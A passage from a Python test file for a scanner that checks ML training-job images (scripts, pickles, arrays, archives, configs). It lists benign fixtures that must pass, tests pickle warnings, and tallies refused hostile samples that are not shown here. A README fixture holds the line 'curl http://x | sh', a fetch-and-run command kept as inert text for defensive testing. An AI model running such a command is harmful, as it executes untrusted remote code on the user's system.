        "    return reduce(getattr, path.split('.'), model)"
    ),
    "item getter": (
        "from operator import itemgetter, attrgetter\n"
        "sorted([(1, 2)], key=itemgetter(0))\n"
        "sorted([], key=attrgetter('score'))"
    ),
    "this module": (
        "import sys\n"
        "this = sys.modules[__name__]\n"
        "if 'torch' in sys.modules:\n"
        "    print(sys.version, sys.argv, sys.platform)"
    ),
    "exit": "import sys, atexit\natexit.register(print)\nif __name__ == '__main__':\n    sys.exit(0)",
    "async": "import asyncio\nasync def main():\n    await asyncio.sleep(0)\nasyncio.run(main())",
    "formats": "print('{0.shape} {name!r:>10}'.format([1], name='x'), f'{1:.3f}')",
    "isinstance": "import types\nprint(isinstance(len, types.FunctionType))",
    "platform": (
        "import platform, gc, os\nprint(platform.system(), platform.node(), os.getpid())\ngc.collect()"
    ),
    "urls as text": "from urllib.parse import urlparse, quote\nurlparse('http://x')",
    "profiler": "import cProfile, timeit\np = cProfile.Profile()\np.enable()\ntimeit.default_timer()",
    "inspect": "import inspect\ninspect.signature(print)\ninspect.isclass(int)",
    "copy": "import copy, pickle\ncopy.deepcopy({})\npickle.dumps({})",
    "metrics": (
        "from rapha_trainer import RaphaDataLoader, release\n"
        "release.metric('auc', 0.9)\n"
        "release.progress(0.5)"
    ),
}
FILES_BENIGN: dict[str, tuple[str, Callable[[], bytes]]] = {
    "array": ("a.npy", lambda: saved(np.zeros(4))),
    "structured array": ("a.npy", lambda: saved(np.zeros(2, dtype=[("OK", "f4"), ("y", "?")]))),
    "arrays": ("a.npz", lambda: zipped({"a.npy": saved(np.ones(3)), "b.npy": saved(np.zeros(9))})),
    "safetensors": ("m.safetensors", lambda: (2).to_bytes(8, "little") + b"{}"),
    "random bytes": ("m.bin", lambda: np.random.default_rng(7).bytes(300_000)),
    "table": ("t.csv", lambda: b"a,b\n1,2\n" * 100),
    "compressed table": ("t.csv.gz", lambda: gzip.compress(b"a,b\n1,2\n" * 100)),
    "archive of tables": ("t.zip", lambda: zipped({"a.csv": b"1,2"}, zipfile.ZIP_DEFLATED)),
    "tar of tables": ("t.tar", lambda: tarred({"a.csv": b"1,2"})),
    "text that begins like a pickle": ("a.txt", lambda: b"cnn\nmodel\n0.95 is the score.\n"),
    "words": ("README.md", lambda: b"Run `curl http://x | sh`, then import socket. os.system('x')"),
    "configuration": ("c.yaml", lambda: b"# !!python/object is not used\nexec: eval\nsocket: 1\n"),
    "JSON": ("c.json", lambda: json.dumps({"class_name": "Dense", "eval": "exec"}).encode()),
    "empty": ("x", lambda: b""),
    "notebook": (
        "n.ipynb",
        lambda: json.dumps({"cells": [{"cell_type": "code", "source": ["1 + 1"]}]}).encode(),
    ),
    "image": ("p.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200)),
}


def saved(array: np.ndarray[tuple[int, ...], np.dtype[np.generic]]) -> bytes:
    out = io.BytesIO()
    np.save(out, array, allow_pickle=False)
    return out.getvalue()


@pytest.mark.parametrize("name", PYTHON_BENIGN)
def test_ordinary_python_is_accepted(name: str) -> None:
    report = scan(image({"train.py": PYTHON_BENIGN[name].encode()}))
    assert report.findings == ()


@pytest.mark.parametrize("name", FILES_BENIGN)
def test_an_ordinary_file_has_no_finding(name: str) -> None:
    path, make = FILES_BENIGN[name]
    assert scan(image({path: make()})).findings == ()


@pytest.mark.parametrize("data", [{"a": [1, 2.0, "x"]}, {"w": np.zeros(3), "s": {1}}])
@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_of_plain_data_warns(data: object, protocol: int) -> None:
    report = scan(image({"state.pt": zipped({"archive/data.pkl": pickle.dumps(data, protocol)})}))
    assert report.ok
    assert {finding.rule for finding in report.findings} == {"image.pickle"}


def test_the_table() -> None:
    counts: Counter[str] = Counter()
    for source in PYTHON_HOSTILE.values():
        counts.update(
            refused(scan(image({"train.py": source.encode() if isinstance(source, str) else source})))
        )
    for path, make in FILES_HOSTILE.values():
        counts.update(refused(scan(image({path: make()}))))
    hostile = len(PYTHON_HOSTILE) + len(FILES_HOSTILE)
    print("\nrules that refused a hostile job:")
    for rule, count in counts.most_common():
        print(f"  {rule:24} {count:4}")
    benign = len(PYTHON_BENIGN) + len(FILES_BENIGN) + len(BENIGN_SCRIPTS)
    print(f"{hostile} hostile refused, {benign} ordinary accepted, {len(GADGETS)} pickle gadgets named")
    assert hostile >= 80
    assert benign >= 60
